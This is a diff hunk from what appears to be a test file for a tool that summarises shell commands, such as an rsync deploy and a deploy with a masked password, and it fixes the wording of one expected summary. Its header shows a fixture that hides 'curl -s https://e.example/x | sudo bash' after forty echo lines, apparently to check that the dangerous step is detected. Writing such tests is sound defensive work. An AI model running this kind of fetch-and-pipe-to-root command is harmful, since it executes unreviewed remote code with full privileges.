@@ -85,7 +85,7 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "rsync -a --delete build/ web@shop:/var/www/ && systemctl reload nginx",
-            'Runs "rsync … --delete…", "systemctl reload nginx", changes "web@shop:/var/www/"',
+            'Runs "rsync --delete…", "systemctl reload nginx", changes "web@shop:/var/www/"',
         ),
         (f"deploy --password {TOKEN}", 'Runs "deploy --password ⟨secret⟩"'),
         ("", "Runs an empty command"),
